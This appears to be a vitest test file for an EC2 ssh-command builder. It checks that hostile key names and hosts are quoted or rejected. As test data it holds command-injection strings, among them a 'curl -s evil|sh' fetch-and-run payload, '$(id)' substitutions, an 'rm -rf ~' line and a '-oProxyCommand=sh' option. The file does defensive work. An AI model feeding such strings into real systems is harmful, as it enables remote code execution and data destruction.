import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import type { Instance } from '../../../../src/cloud/ec2';
import { sshCommand, sshCommandFor } from '../../../../src/cloud/ec2';

const instance = (fields: Partial<Instance>): Instance =>
  ({ dnsName: '', ipAddress: '', privateIpAddress: '', keyName: '', ...fields }) as Instance;

/** The words a real POSIX shell makes of a command line; it runs nothing but printf. */
function shellWords(line: string): string[] {
  // `set --` turns the line's words into "$@" (a `;` or `$(…)` left unquoted would run here).
  const out = execFileSync('/bin/sh', ['-c', `set -- ${line}\nprintf '%s\\0' "$@"`], {
    encoding: 'utf8',
  });
  return out.split('\0').slice(0, -1);
}

const HOSTILE_KEYS = ['k;curl -s evil|sh;#', '$(id)', "it's", 'two\nlines', '`id` & "x" \\ *'];

describe('sshCommandFor', () => {
  test('an ordinary instance gives the same line as before', () => {
    const line = sshCommand(instance({ keyName: 'mykey', dnsName: 'ec2-1-2-3-4.compute.example' }));
    expect(line).toBe('ssh -i mykey.pem ec2-user@ec2-1-2-3-4.compute.example');
    expect(sshCommand(instance({ ipAddress: '10.0.0.7' }))).toBe('ssh ec2-user@10.0.0.7');
  });

  test.each(HOSTILE_KEYS)('a shell splits the line into exactly four words: key %j', (key) => {
    const line = sshCommand(instance({ keyName: key, ipAddress: '203.0.113.9' }));
    expect(line).not.toBeNull();
    expect(shellWords(line ?? '')).toEqual(['ssh', '-i', `${key}.pem`, 'ec2-user@203.0.113.9']);
  });

  test('falls back to the public, then the private address', () => {
    expect(sshCommand(instance({ privateIpAddress: '172.31.0.5' }))).toBe(
      'ssh ec2-user@172.31.0.5',
    );
    expect(sshCommandFor(instance({}))).toEqual({ ok: false, reason: 'no-host' });
  });

  test.each([
    '-oProxyCommand=sh',
    'host;id',
    '$(id).example.com',
    "a'b.example",
    'evil.com\nrm -rf ~',
    '::1]@evil.com/[',
    '[::1]',
    'a b',
  ])('refuses a host that is not a host name or an address: %j', (host) => {
    const result = sshCommandFor(instance({ keyName: 'k', dnsName: host }));
    expect(result).toEqual({ ok: false, reason: 'invalid-host', host });
    expect(sshCommand(instance({ keyName: 'k', dnsName: host }))).toBeNull();
  });

  test('an IPv6 address is a host', () => {
    expect(sshCommand(instance({ ipAddress: '2001:db8::5' }))).toBe('ssh ec2-user@2001:db8::5');
  });
});
